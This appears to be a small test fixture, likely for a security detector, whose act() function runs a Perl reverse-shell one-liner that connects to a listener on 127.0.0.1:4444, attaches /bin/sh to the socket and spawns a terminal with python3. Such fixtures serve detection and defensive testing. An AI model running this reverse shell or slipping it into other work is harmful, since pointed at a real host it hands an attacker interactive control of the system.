# perl starts a shell on a connection to a listener on loopback; python3 makes a terminal.
prepare() {
    listener 4444
}
act() {
    perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:4444") or die;
        open STDIN, "<&", $s; open STDOUT, ">&", $s; exec "/bin/sh", "-c", q(python3 -c "import pty; pty.spawn(1)"; :)'
}
